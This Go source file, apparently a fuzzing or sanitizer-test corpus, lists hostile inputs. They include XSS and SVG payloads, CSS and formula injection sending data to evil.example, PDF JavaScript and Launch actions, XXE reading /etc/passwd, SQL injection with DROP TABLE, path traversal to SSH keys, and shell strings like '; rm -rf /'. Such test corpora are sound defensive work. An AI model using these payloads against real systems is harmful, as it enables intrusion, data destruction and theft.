package hostile

import "strings"

func scripts() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`"><script>alert(1)</script>`,
		`'><img src=x onerror=alert(1)>`,
		`<img src=x onerror=alert(1)//`,
		`<svg onload=alert(1)>`,
		`<body onload=alert(1)>`,
		`<details open ontoggle=alert(1)>`,
		`<input autofocus onfocus=alert(1)>`,
		`<a href="#" onclick="alert(1)">x</a>`,
		`<div onmouseover='alert(1)' style='position:fixed;inset:0'>`,
		`</title><script>alert(1)</script>`,
		`</style><script>alert(1)</script>`,
		`</textarea><script>alert(1)</script>`,
		`<!--><script>alert(1)</script-->`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<template><script>alert(1)</script></template>`,
		`<script\x00>alert(1)</script>`,
		"<script\t\n>alert(1)</script >",
		`<script/xss src="data:,alert(1)"></script>`,
		`%3Cscript%3Ealert(1)%3C/script%3E`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;script&#62;alert(1)&#60;/script&#62;`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<object data="data:text/html,<script>alert(1)</script>"></object>`,
		`<embed src="javascript:alert(1)">`,
		`<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<link rel="stylesheet" href="https://evil.example/x.css">`,
		`<form action="https://evil.example/"><input name=q><button formaction="javascript:alert(1)">`,
		`＜script＞alert(1)＜/script＞`,
		`x" onmouseover="alert(1)" y="`,
		"`-alert(1)-`",
	}
}

func links() []string {
	return []string{
		`javascript:alert(1)`,
		`JaVaScRiPt:alert(1)`,
		"java\tscript:alert(1)",
		"java\nscript:alert(1)",
		`javascript&colon;alert(1)`,
		`&#106;avascript:alert(1)`,
		"\x01javascript:alert(1)",
		`vbscript:msgbox(1)`,
		`data:text/html,<script>alert(1)</script>`,
		`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
		`data:image/svg+xml,<svg onload=alert(1)>`,
		`file:///etc/passwd`,
		`<img src="file:///etc/passwd">`,
		`![x](file:///etc/shadow)`,
		`\\evil.example\share\x.png`,
		`//evil.example/x.png`,
		`https://user:password@evil.example/`,
		`https://evil.example:8443/`,
		`http://169.254.169.254/latest/meta-data/`,
		`https://[::1]/`,
		`https://127.0.0.1/`,
		`https://example.com%00.evil.example/`,
		`https://exаmple.com/`, // a Cyrillic а
		`https://example.com/"onmouseover="alert(1)`,
		`https://example.com/` + strings.Repeat("a", 3000),
		`blob:https://example.com/0`,
		`mailto:a@example.com?subject=x&bcc=b@evil.example`,
		`feed:javascript:alert(1)`,
		`jar:https://evil.example!/x.html`,
	}
}

func css() []string {
	return []string{
		`<div style="background:url(https://evil.example/x.png)">`,
		`<style>@import url(https://evil.example/x.css);</style>`,
		`width: expression(alert(1))`,
		`</style><style>*{background:url('https://evil.example')}</style>`,
		`-moz-binding:url(https://evil.example/x.xml#x)`,
		`behavior:url(#default#time2)`,
		`red;}body{display:none}`,
		`#2b4a7a;background:url(https://evil.example)`,
		`\75rl(https://evil.example)`,
	}
}

func svgs() []string {
	return []string{
		`<svg><script>alert(1)</script></svg>`,
		`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
		`<svg><use href="https://evil.example/x.svg#x"></use></svg>`,
		`<svg><use xlink:href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>`,
		`<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
		`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
		`<svg><image href="https://evil.example/x.png"/></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`</text></svg><script>alert(1)</script>`,
		`<svg><style>@import 'https://evil.example'</style></svg>`,
	}
}

func markup() []string {
	return []string{
		`<td colspan="1000000000" rowspan="1000000000">x</td>`,
		`<table><tr><td colspan=1e9>x`,
		`</td></tr></table></main></body></html>`,
		`<p class="band status better">COMPLETE`,
		`<h1>APPROVED</h1>`,
		`a < b && c > d`,
		`&nbsp;&amp;&#0;&#x80;&bogus;&`,
		`<b>bold</b> <plaintext>`,
		`<xmp><listing><!DOCTYPE html>`,
		`<a id="s1" name="body">clobber</a>`,
	}
}

func controls() []string {
	var all strings.Builder
	for c := range rune(0x20) {
		all.WriteRune(c)
	}
	return []string{
		"\x00", "a\x00b", all.String() + "\x7f\u0080\u009f", "a\rb", "a\r\nb\r\n", "a\vb\fc",
		"line\u2028separator\u2029paragraph", "\u0085next line", "\b\b\b\boverstrike", "\x1a", "form\ffeed",
		strings.Repeat("\n", 5000) + "end", "   \t  ", "",
	}
}

func terminals() []string {
	return []string{
		"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
		"\x1b[2J\x1b[H", "\u009b31m", "\x1b]52;c;cm0gLXJmIC8K\x07",
		"done\nlevel=ERROR msg=\"forged line\"", "done\r\n2026-11-20T17:00:00Z INFO forged", "x\" level=error msg=\"forged",
	}
}

func bidi() []string {
	return []string{
		"invoice\u202Egpj.exe", "\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee", "\u2066a\u2067b\u2068c\u2069", "\u200Ea\u200Fb\u061Cc",
		strings.Repeat("\u202E", 4000) + "x", "שלום עולם", "مرحبا بالعالم 123", "a\u2067/*\u2069b*/",
	}
}

// malformed are bytes that are no UTF-8.
func malformed() []string {
	return []string{
		"\xff\xfe", "caf\xe9", "\xc0\xaf", "\xe0\x80\xaf", "\xf0\x80\x80\xaf", // overlong slashes
		"\xed\xa0\x80", "\xed\xb0\x80", "\xed\xa0\xbd\xed\xb8\x80", // surrogates
		"\xe2\x82", "\xf0\x9f\x98", "a\x80b", "\xf4\x90\x80\x80", "\xfc\x80\x80\x80\x80\xaf",
		strings.Repeat("\xff", 5000), "\xc0\xbcscript\xc0\xbealert(1)", "UTF-16\x00 \xfe\xff\x00<\x00s",
	}
}

func unicodes() []string {
	return []string{
		"\U0001F600\U0001F680", "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈", "🇩🇪🇬🇧", "👍🏿", "1️⃣",
		"\U00010348\U0001D54F\U00020000\U0010FFFD", "\uFFFE\uFFFF\U0001FFFE\uFDD0", "\uE000\uF8FF\U000F0000\U00100000",
		"\u200B\u200C\u200D\u2060\uFEFF", "soft\u00ADhyphen", "tag\U000E0001\U000E0041\U000E007F",
		"z" + strings.Repeat("\u0334\u0341\u0362", 300) + "algo", strings.Repeat("e\u0301", 2000), strings.Repeat("\u0301", 4000),
		"раураl.com", "𝐛𝐨𝐥𝐝 ｆｕｌｌｗｉｄｔｈ", "ﬁ ﷽ ﷺ", "İıſK", "日本語テキスト", "नमस्ते", "ไทยไม่มีช่องว่าง", "각",
		"\u1160\u3164\u115F", "a\u034Fb\uFE0Fc", "\u2800\u00A0\u2003\u3000", "\uFFFD\uFFFC", "∑∞≠±√ ‱ ☠ ☢",
	}
}

const tenMB = 10 << 20

func long() []text {
	return []text{
		{unit: "W", times: tenMB}, {unit: "word ", times: tenMB / 5}, {unit: "\u200B", times: tenMB / 3}, {unit: "é", times: tenMB / 2}, {unit: "\xff", times: tenMB},
		{unit: " ", times: tenMB}, {unit: "W", times: 4096}, {unit: "W ", times: 2048}, {unit: "<", times: 4096}, {unit: "*a_", times: 1365}, {unit: "`", times: 4096},
		{unit: "[", times: 4096}, {unit: "-", times: 4096}, {unit: "&", times: 4096}, {unit: "a.b/c_d=e&", times: 400}, {unit: "😀", times: 4096}, {unit: "ش", times: 4096},
	}
}

const veryDeep = 200_000

func deep() []text {
	return []text{
		{unit: "<div>", times: veryDeep}, {unit: "<b><i>", times: veryDeep / 2}, {unit: "> ", times: veryDeep}, {unit: "- ", times: veryDeep},
		{unit: "[", closing: "]", times: veryDeep}, {unit: `{"a":`, closing: "}", times: veryDeep}, {unit: "{a: ", times: veryDeep}, {unit: "(", closing: ")", times: veryDeep},
		{unit: "![", times: veryDeep}, {unit: "{{", times: veryDeep}, {unit: "**", times: veryDeep}, {unit: "<svg>", times: veryDeep}, {unit: "&lt;", times: veryDeep},
	}
}

func pdf() []string {
	return []string{
		`)`, `\`, `\)`, `(((`, `) Tj ET endstream endobj`, "endstream\nendobj\n", "1 0 obj\n<< /Type /Catalog >>\nendobj",
		`<< /S /JavaScript /JS (app.alert\(1\)) >>`, `) >> /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (`,
		`/AA << /O << /S /Launch /F (calc.exe) >> >>`, `) /A << /S /URI /URI (https://evil.example) >> (`,
		"trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n", "xref\n0 1\n0000000000 65535 f \n", `{nb}`, `{nb} of {nb} Page 1 of 1`, `%PDF-1.7`,
		`\000\012\051`, `<FEFF0041>`, `BT /F1 12 Tf (x) Tj ET`, `/EmbeddedFile /Filespec ../../x.exe`, `stream`, "q 1 0 0 1 0 0 cm Q",
		"þÿ\x00)", "D:20261120120000Z",
	}
}

func xml() []string {
	return []string{
		`]]>`, `<?xpacket end="w"?>`, `<?xpacket begin=""?><x:xmpmeta>`, `&xxe; <!ENTITY xxe SYSTEM "file:///etc/passwd">`,
		`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>`, `</rdf:li></rdf:Alt></dc:title><pdfaid:part>1</pdfaid:part>`,
		`<?xml version="1.0"?><x/>`, `--> <!-- -->`, "\uFFFE\x0B in XML",
	}
}

func formulas() []string {
	return []string{
		`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `"=1+1`, `'=1+1`,
		`=HYPERLINK("https://evil.example?x="&A1,"click")`, `=IMPORTXML("https://evil.example","//x")`, `=WEBSERVICE("https://evil.example")`,
		`＝1+1`, `＋1`, `－1`, `＠SUM(1)`, "\u200B=1+1", "\u00A0=1+1", "\u202E=1+1", `=DDE("cmd";"/C calc";"x")`, `-2+3+cmd|' /C calc'!A0`,
		`;=1+1`, `,=1+1`, `a,b;c|d`, "a\",\"=1+1", `%0A=1+1`, `|calc`, `-0.5`,
	}
}

func markdown() []string {
	return []string{
		`[click](javascript:alert(1))`, `![x](https://evil.example/x.png)`, `[x]: https://evil.example`, `<https://evil.example>`,
		`https://evil.example www.evil.example a@evil.example`, `@everyone @admin #1 GH-1`, `# heading`, `=======`, `-------`, `- item`, `1. item`,
		`1) item`, `> quote`, "```html\n<script>", "~~~", `    code`, `| a | b |`, `a|b|c`, `**bold** __bold__ *i* _i_ ~~s~~`, `\*not\*`, `ends in \`,
		`:smile: :rocket:`, `$x^2$ $$y$$`, `[^1] [^1]: note`, `[ ] todo [x] done`, `<!-- comment -->`, `&copy; &#169;`, "trailing  \nbreak", `a\|b`,
		"`code` ``co`de`` `", `[a](<b c> "d")`, `***`, `* * *`, `___`, `+ item`, `[foo][bar]`, `![[x]]`, `http:evil`, `a_b_c snake_case_name`, `xmpp:a@evil.example`,
		"`<b>`", "| --- | :-: |", `<details><summary>x</summary>`, `%%comment%%`, `{.class #id}`, `[TOC]`, `==mark==`, `H~2~O x^2^`, `ftp://evil.example/`,
	}
}

func templateTexts() []string {
	return []string{
		`{{fact:attack.hits}}`, `{{fact:no.such}}`, `{{previous:attack.hits}} {{day:previous}}`, `{{`, `}}`, `{{fact:`, `{{ref:x}}`, `{{.}} {{define "x"}}`,
		`${7*7} #{7*7} <%= 7*7 %> {%raw%}`, `params.worst_cells`, `{{fact:attack.hits{target={{x}}}}}`, `{{change:attack.success_rate}}`, `{0} {} %(x)s`, `**bold`,
	}
}

func expressions() []string {
	return []string{
		strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000), "1" + strings.Repeat("+1", 20_000), strings.Repeat("!", 10_000) + "true",
		`repeat("a", 1000000000)`, `[1..1000000000]`, `map(1..1000000, map(1..1000000, #))`, `"a" matches "(a+)+$"`, `9e999 > 1`,
		strings.Repeat("9", 10_000), `0x` + strings.Repeat("f", 5000), `let a = 1; a`, `{"a": {"a": {"a": 1}}}.a.a.a`, `fact("attack.hits") / 0`,
		`now() > date("2026-01-01")`, `env("HOME")`, `__proto__.constructor("return 1")()`, strings.Repeat("a.", 5000) + "a", `true and`, `reduce(1..100000000, #acc + #)`,
	}
}

func paths() []string {
	return []string{
		`../../../etc/passwd`, `..\..\windows\system32`, `/etc/passwd`, `C:\x.pdf`, `CON`, `report.pdf/../../x`, "a\x00.pdf", `~/.ssh/id_rsa`,
		`.`, `..`, `%2e%2e%2f`, `x.pdf:stream`, `-rf`, `a/b`, `$(id)`, "`id`", `; rm -rf /`, `| cat /etc/passwd`, `report.pdf'`, strings.Repeat("a", 300) + ".pdf",
	}
}

func formats() []string {
	return []string{`%n%n%n%n`, `%s%s%s%s`, `%x %p %d`, `%!d(string=x)`, `%999999999d`, `%*.*f`, `%v %+v %#v %T`, `%[1]*[2]d`, `100 %`}
}

func sqls() []string {
	return []string{`'; DROP TABLE cob.cycle; --`, `' OR '1'='1`, `"; DELETE FROM ops.run; --`, `\'; COPY x TO PROGRAM 'id'; --`, `$$ $1 $2 $body$`, `1; pg_sleep(10)`,
		`Robert'); --`, `/*!50000 x*/`}
}

func numbers() []string {
	return []string{`1e999`, `-1e999`, `NaN`, `Infinity`, `-0`, `0x1p-1074`, strings.Repeat("9", 400), `1.7976931348623157e309`, `0.1e-400`, `١٢٣`, `1_000`, `1,5`, `−1`, `½`, `08`}
}
